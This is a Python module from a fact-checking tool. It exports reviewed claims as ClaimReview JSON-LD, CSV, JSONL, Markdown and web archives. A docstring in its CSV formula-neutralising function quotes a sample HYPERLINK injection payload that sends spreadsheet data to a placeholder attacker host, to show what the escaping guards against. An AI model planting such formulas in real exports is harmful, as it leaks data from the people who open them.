"""Exports: ClaimReview JSON-LD, CSV, JSONL, a Markdown report per article, and WARC.

Rating scale for ClaimReview (bestRating 5, worstRating 1):
    true 5, mostly-true 4, mixed 3, mostly-false 2, false 1
    unverifiable: no ratingValue (a number would place it on the true/false scale, which it is
    not); the review keeps bestRating/worstRating and alternateName "Unverifiable".
The archived sources go in `citation` as CreativeWork items whose `archivedAt` is a
MediaObject carrying the capture: final URL (contentUrl), capture time (uploadDate), the
payload's sha256 and its content type (encodingFormat)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import IO, Any

from sqlite_utils import Database

from verify import clock, model, store
from verify.errors import InputError

FORMATS = ("claimreview", "csv", "jsonl", "markdown", "warc", "wacz")
VERDICT_LABELS = {
    "true": "True",
    "mostly-true": "Mostly true",
    "mixed": "Mixed",
    "mostly-false": "Mostly false",
    "false": "False",
    "unverifiable": "Unverifiable",
}
CSV_COLUMNS = (
    "claim_id", "article_id", "claim", "status", "priority", "score", "verdict", "verdict_note",
    "decided_by", "decided_at", "source_id", "url", "assessment_id", "stance", "assessed_by",
    "assessed_at", "quote",
    "snapshot_id", "final_url", "http_status", "fetched_at", "sha256",
)  # fmt: skip


# --------------------------------------------------------------------------- data


def _claims(
    db: Database, article_id: int | None, *, decided_only: bool = False
) -> list[dict[str, Any]]:
    return store.exports.claims(db, article_id, decided_only=decided_only)


def _snapshot(db: Database, snapshot_id: int) -> dict[str, Any] | None:
    return store.exports.cited_snapshot(db, snapshot_id)


def _sources(db: Database, claim_id: int) -> list[dict[str, Any]]:
    """The claim's sources, each with its live assessments (stance, quote, the snapshot each is
    bound to) and `snapshot`: the snapshot the latest quote was made on, else the snapshot a
    reviewer sees (store.reviewed_snapshot)."""
    out = store.exports.claim_links(db, claim_id)
    by_source: dict[int, list[dict[str, Any]]] = {}
    for a in store.list_assessments(db, claim_id):
        by_source.setdefault(a["source_id"], []).append(
            {
                k: a[k]
                for k in (
                    "id",
                    "stance",
                    "reviewer",
                    "created_at",
                    "quote",
                    "quote_start",
                    "quote_end",
                    "snapshot_id",
                )
            }  # fmt: skip
        )
    for src in out:
        src["assessments"] = by_source.get(src["source_id"], [])
        quoted = [a["snapshot_id"] for a in src["assessments"] if a["snapshot_id"]]
        src["snapshot"] = (
            store.exports.cited_snapshot(db, quoted[-1])
            if quoted
            else store.exports.reviewed_cited_snapshot(db, src["source_id"])
        )
    return out


def _article(
    db: Database, article_id: int | None, cache: dict[int, dict[str, Any] | None]
) -> dict[str, Any] | None:
    if article_id is None:
        return None
    if article_id not in cache:
        cache[article_id] = store.exports.article(db, article_id)
    return cache[article_id]


def _check_article(db: Database, article_id: int | None) -> int | None:
    return None if article_id is None else store.article_row(db, article_id)["id"]


def _date(value: str | None) -> str | None:
    return value[:10] if value else None


# --------------------------------------------------------------------------- ClaimReview


def claim_review(
    db: Database,
    claim: dict[str, Any],
    org: str,
    articles: dict | None = None,
    publishing: dict[str, Any] | None = None,
) -> dict[str, Any]:
    """One schema.org ClaimReview (JSON-LD) for a decided claim. `publishing` (see
    _publishing): the review_url template, the organisation's url, the archive's public
    address, and the approvals of the claims' current verdicts."""
    articles = {} if articles is None else articles
    pub = publishing or {}
    rating: dict[str, Any] = {
        "@type": "Rating",
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": VERDICT_LABELS[claim["verdict"]],
    }
    if claim["verdict"] in model.VERDICT_VALUES:
        rating["ratingValue"] = model.VERDICT_VALUES[claim["verdict"]]
    item: dict[str, Any] = {"@type": "Claim"}
    if claim.get("claimant"):
        item["author"] = {"@type": "Person", "name": claim["claimant"]}
    article = _article(db, claim["article_id"], articles)
    if article:
        appearance: dict[str, Any] = {"@type": "CreativeWork"}
        if article["url"]:
            appearance["url"] = article["url"]
        if article["title"]:
            appearance["headline"] = article["title"]
        if article["published"]:
            appearance["datePublished"] = article["published"]
        item["appearance"] = [appearance]
        if article["url"]:
            item["firstAppearance"] = appearance
        item["datePublished"] = _date(article["published"] or article["ingested_at"])
    else:
        item["datePublished"] = _date(claim["created_at"])
    archive_url = pub.get("archive_url")
    citations = []
    for src in _sources(db, claim["id"]):
        cite: dict[str, Any] = {"@type": "CreativeWork", "url": src["url"]}
        snap = src["snapshot"]
        if snap:
            if snap["title"]:
                cite["name"] = snap["title"]
            archived: dict[str, Any] = {
                "@type": "MediaObject",
                "contentUrl": snap["final_url"],
                "uploadDate": snap["fetched_at"],
            }
            if snap["sha256"]:
                archived["sha256"] = snap["sha256"]
            if snap["content_type"]:
                archived["encodingFormat"] = snap["content_type"]
            if archive_url and snap["sha256"]:
                # the archived copy as schema.org expects: a URL, served read-only by
                # `verify serve` at /archive/ID; the capture's details beside it
                copy = f"{archive_url}/archive/{snap['id']}"
                cite["archivedAt"] = copy
                cite["associatedMedia"] = {**archived, "contentUrl": copy,
                                           "isBasedOn": snap["final_url"]}  # fmt: skip
            else:
                cite["archivedAt"] = archived
        citations.append(cite)
    author: dict[str, Any] = {"@type": "Organization", "name": org}
    if pub.get("org_url"):
        author["url"] = pub["org_url"]
    approved = (pub.get("approvals") or {}).get(claim["id"])
    review: dict[str, Any] = {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "claimReviewed": claim["text"],
        "reviewRating": rating,
        "itemReviewed": item,
        "author": author,
        "datePublished": _date(approved["approved_at"] if approved else claim["decided_at"]),
    }
    if pub.get("review_url"):
        review["url"] = pub["review_url"].format(id=claim["id"])
    if claim["verdict_note"]:
        review["reviewBody"] = claim["verdict_note"]
    if citations:
        review["citation"] = citations
    return review


# What Google's ClaimReview guidelines require of each review (field, what to do when missing).
REQUIRED = (
    ("claimReviewed", "the claim has no text"),
    ("reviewRating.alternateName", "the verdict has no name"),
    ("url", 'set `verify config review_url "https://your.site/checks/{id}"`'),
    ("author.name", "set `verify config org NAME` or pass --org"),
)


def missing_fields(review: dict[str, Any]) -> list[str]:
    """The Google-required fields a ClaimReview lacks (REQUIRED), as dotted paths."""
    out = []
    for path, _ in REQUIRED:
        value: Any = review
        for part in path.split("."):
            value = value.get(part) if isinstance(value, dict) else None
        if not (isinstance(value, str) and value.strip()):
            out.append(path)
    return out


def check_publishable(claim_id: int, review: dict[str, Any]) -> None:
    """InputError naming the claim and the first required field its review lacks."""
    missing = missing_fields(review)
    if missing:
        hint = dict(REQUIRED)[missing[0]]
        raise InputError(
            f"claim {claim_id}: its ClaimReview lacks {missing[0]}, which Google requires: {hint}"
        )


def _publishing(db: Database) -> dict[str, Any]:
    """The settings and approvals a ClaimReview export reads once."""
    from verify import settings
    from verify.review import team

    # an approval counts while the claim's published content is what was approved
    approvals = {
        r["claim_id"]: r
        for r in store.exports.current_approvals(db)
        if store.approvals.approval_stands(db, r["claim_id"], r["verdict_id"])
    }
    return {
        "review_url": settings.get_value(db, "review_url"),
        "org_url": settings.get_value(db, "org_url"),
        "archive_url": settings.get_value(db, "archive_url"),
        "require_approval": team.approval_required(db),
        "approvals": approvals,
    }


def _publishable_claims(db: Database, aid: int | None, pub: dict[str, Any]) -> list[dict[str, Any]]:
    """The decided claims to publish: with approval required, only approved verdicts."""
    found = _claims(db, aid, decided_only=True)
    if pub["require_approval"]:
        found = [c for c in found if c["id"] in pub["approvals"]]
    return found


def _reviews(
    db: Database, article_id: int | None, org: str | None
) -> list[tuple[int, dict[str, Any]]]:
    """(claim id, ClaimReview) for every decided claim (of one article, if given); with
    `require_approval` on, only approved verdicts. InputError naming the claim when a review
    lacks a field Google requires (REQUIRED)."""
    aid = _check_article(db, article_id)
    name = resolve_org(db, org)
    cache: dict[int, Any] = {}
    pub = _publishing(db)
    out = []
    for c in _publishable_claims(db, aid, pub):
        item = claim_review(db, c, name, cache, pub)
        check_publishable(c["id"], item)
        out.append((c["id"], item))
    return out


def resolve_org(db: Database, org: str | None) -> str:
    """The organisation for ClaimReview `author`: --org, else settings 'org'."""
    if org is not None and org.strip():
        return org.strip()
    stored = store.get_setting(db, "org")
    if stored and stored.strip():
        return stored.strip()
    raise InputError(
        "ClaimReview needs the publishing organisation: pass --org NAME (it is remembered)"
    )


# --------------------------------------------------------------------------- CSV, JSONL, Markdown


def claim_records(db: Database, *, article_id: int | None = None) -> Iterator[dict[str, Any]]:
    """Every claim (not the below-threshold candidates) with sources, stances and verdicts."""
    aid = _check_article(db, article_id)
    for c in _claims(db, aid):
        if c["status"] == "candidate":
            continue
        c["sources"] = _sources(db, c["id"])
        c["verdicts"] = store.exports.verdicts(db, c["id"])
        for v in c["verdicts"]:
            v["forced"] = bool(v["forced"])
        yield c


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula (it starts with = + - @, a tab or a
    carriage return) gets a leading apostrophe, so it is shown as text; other cells as they are.
    An article paragraph `=HYPERLINK("http://evil.example/?d="&A1, ...)` must not become a link
    that sends the sheet away when an editor opens the export."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, stream: IO[str]) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([neutralise_formula(v) for v in row])


def _write_csv(db: Database, records: list[dict[str, Any]], stream: IO[str]) -> None:
    writer = _SafeWriter(stream)
    writer.writerow(CSV_COLUMNS)
    for c in records:
        base = [c["id"], c["article_id"], c["text"], c["status"], c["priority"], c["score"], c["verdict"],
                c["verdict_note"], c["decided_by"], c["decided_at"]]  # fmt: skip
        if not c["sources"]:
            writer.writerow(base + [None] * (len(CSV_COLUMNS) - len(base)))
        for s in c["sources"]:
            for a in s["assessments"] or [None]:
                a = a or {}
                snap = (
                    (
                        store.exports.cited_snapshot(db, a["snapshot_id"])
                        if a.get("snapshot_id")
                        else None
                    )
                    or s["snapshot"]
                    or {}
                )
                writer.writerow(
                    base
                    + [s["source_id"], s["url"], a.get("id"), a.get("stance"), a.get("reviewer"),
                       a.get("created_at"), a.get("quote"), snap.get("id"), snap.get("final_url"),
                       snap.get("status"), snap.get("fetched_at"), snap.get("sha256")]
                )  # fmt: skip


def _jsonl_record(c: dict[str, Any]) -> dict[str, Any]:
    out = {k: c[k] for k in ("id", "article_id", "text", "start", "end", "score", "status", "priority",
                             "verdict", "verdict_note", "decided_by", "decided_at", "created_at")}  # fmt: skip
    out["sources"] = [
        {
            "id": s["source_id"],
            "url": s["url"],
            "origin": s["origin"],
            "anchor_text": s["anchor_text"],
            "assessments": s["assessments"],
            "snapshot": s["snapshot"],
        }
        for s in c["sources"]
    ]
    out["verdicts"] = c["verdicts"]
    return out


def _md_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]").replace("\n", " ")


def _write_markdown(db: Database, records: list[dict[str, Any]], stream: IO[str]) -> None:
    groups: dict[int | None, list[dict[str, Any]]] = {}
    for c in records:
        groups.setdefault(c["article_id"], []).append(c)
    cache: dict[int, Any] = {}
    first = True
    for aid, claims in groups.items():
        if not first:
            stream.write("\n---\n\n")
        first = False
        article = _article(db, aid, cache)
        if article:
            stream.write(f"# {_md_escape(article['title'] or f'Article {aid}')}\n\n")
            if article["url"]:
                stream.write(f"Article: <{article['url']}>  \n")
            stream.write(f"Ingested: {article['ingested_at']}\n\n")
        else:
            stream.write("# Claims without an article\n\n")
        notes: list[str] = []
        for n, c in enumerate(claims, 1):
            refs = ""
            for s in c["sources"]:
                notes.append(_footnote(len(notes) + 1, s))
                refs += f"[^{len(notes)}]"
            verdict = VERDICT_LABELS.get(c["verdict"] or "", None)
            stream.write(f"{n}. {_md_escape(c['text'])}{refs}\n")
            if verdict:
                by = f" by {c['decided_by']}" if c["decided_by"] else ""
                when = f" on {_date(c['decided_at'])}" if c["decided_at"] else ""
                stream.write(f"   - **Verdict: {verdict}**{by}{when}\n")
                if c["verdict_note"]:
                    stream.write(f"   - Note: {_md_escape(c['verdict_note'])}\n")
            else:
                stream.write(f"   - Status: {c['status'].replace('_', ' ')}\n")
            for v in c.get("verdicts", [])[:-1] if verdict else c.get("verdicts", []):
                label = VERDICT_LABELS.get(v["verdict"], v["verdict"])
                stream.write(
                    f"   - Earlier verdict: {label} by {v['reviewer']} on {_date(v['created_at'])}\n"
                )
            if c.get("evidence_changed_at"):
                previous = VERDICT_LABELS.get(c.get("previous_verdict") or "", None)
                stream.write(
                    f"   - Evidence changed on {_date(c['evidence_changed_at'])}"
                    + (f": reopened, the verdict was {previous}" if previous else "")
                    + "\n"
                )
            for s in c["sources"]:
                for a in s["assessments"]:
                    quote = f': "{_md_escape(a["quote"])}"' if a["quote"] else ""
                    stream.write(f"   - {a['stance']} ({s['url']}){quote}\n")
        if notes:
            stream.write("\n" + "\n".join(notes) + "\n")


def _footnote(n: int, s: dict[str, Any]) -> str:
    snap = s["snapshot"]
    gone = f"source gone since {_date(s['dead_at'])}" if s.get("dead_at") else None
    if not snap:
        return f"[^{n}]: <{s['url']}>: " + ", ".join(filter(None, ["not captured", gone]))
    if snap.get("origin") == "archive":
        # a recovered copy: dated by when the web archive captured it, not when verify read it
        parts = [
            f"[^{n}]: <{s['url']}>: archived by {snap['archive_name'] or 'a web archive'}"
            f" on {snap['memento_datetime'] or 'an unknown date'}"
            + (f" <{snap['memento_url']}>" if snap["memento_url"] else "")
            + f" (retrieved {snap['fetched_at']})"
        ]
    else:
        parts = [f"[^{n}]: <{s['url']}>: captured {snap['fetched_at']}"]
    if gone:
        parts.append(gone)
    if snap["final_url"] and snap["final_url"] != s["url"]:
        parts.append(f"final URL <{snap['final_url']}>")
    if snap["status"] is not None:
        parts.append(f"HTTP {snap['status']}")
    if snap["sha256"]:
        parts.append(f"sha256 `{snap['sha256']}`")
    return ", ".join(parts)


# --------------------------------------------------------------------------- entry point


@contextlib.contextmanager
def _text_out(out: str | os.PathLike | IO | None) -> Iterator[IO[str]]:
    """A text stream for `out`: a path (written to a temporary file, renamed on success), a
    text or binary stream, or None / '-' for stdout."""
    if out is None or out == "-":
        yield sys.stdout
        return
    if isinstance(out, (str, os.PathLike)):
        path = Path(out)
        if not path.parent.is_dir():
            raise InputError(f"cannot write {path}: folder {path.parent} does not exist")
        tmp = path.with_name(path.name + ".part")
        try:
            with open(tmp, "w", encoding="utf-8", newline="") as fh:
                yield fh
            os.replace(tmp, path)
        finally:
            if tmp.exists():
                tmp.unlink()
        return
    if isinstance(out, io.TextIOBase) or hasattr(out, "encoding"):
        yield out
        return
    wrapper = io.TextIOWrapper(out, encoding="utf-8", newline="", write_through=True)
    try:
        yield wrapper
    finally:
        wrapper.detach()


def export(
    db: Database,
    fmt: str,
    out: str | os.PathLike | IO | None = None,
    *,
    article_id: int | None = None,
    org: str | None = None,
    actor: str | None = None,
) -> int:
    """Write an export; returns how many items were written (reviews, claims, or snapshots for
    WARC). `out`: a path, a stream, or None for stdout. Adds an 'exported' event per claim."""
    if fmt not in FORMATS:
        raise InputError(f"unknown export format {fmt!r}: use one of {', '.join(FORMATS)}")
    aid = _check_article(db, article_id)
    if fmt in ("warc", "wacz"):
        if fmt == "wacz":
            from verify.export.wacz import write_wacz

            if out is None or out == "-" or not isinstance(out, str | os.PathLike):
                raise InputError("a WACZ export is a zip file: give it a name with -o FILE.wacz")
            count = write_wacz(db, out, article_id=aid)
        else:
            from verify.export.warc import write_warc

            target: Any = out if out not in (None, "-") else sys.stdout.buffer
            count = write_warc(db, target, article_id=aid)
        with store.immediate(db):
            store.add_event(
                db,
                "exported",
                article_id=aid,
                actor=actor,
                detail={"format": fmt, "snapshots": count},
            )
        return count
    if fmt == "claimreview":
        pairs = _reviews(db, aid, org)
        items: list[Any] = [review for _, review in pairs]
        ids = [cid for cid, _ in pairs]
        with _text_out(out) as stream:
            stream.write(json.dumps(items, ensure_ascii=False, indent=2) + "\n")
        if org is not None and org.strip():
            with store.immediate(db):
                store.set_setting(db, "org", org.strip())
    else:
        records = list(claim_records(db, article_id=aid))
        ids = [c["id"] for c in records]
        with _text_out(out) as stream:
            if fmt == "csv":
                _write_csv(db, records, stream)
            elif fmt == "jsonl":
                for c in records:
                    stream.write(
                        json.dumps(_jsonl_record(c), ensure_ascii=False, default=str) + "\n"
                    )
            else:
                _write_markdown(db, records, stream)
    at = clock.now()
    with store.immediate(db):
        for cid in ids:
            store.add_event(
                db, "exported", claim_id=cid, actor=actor, detail={"format": fmt}, at=at
            )
    return len(ids)
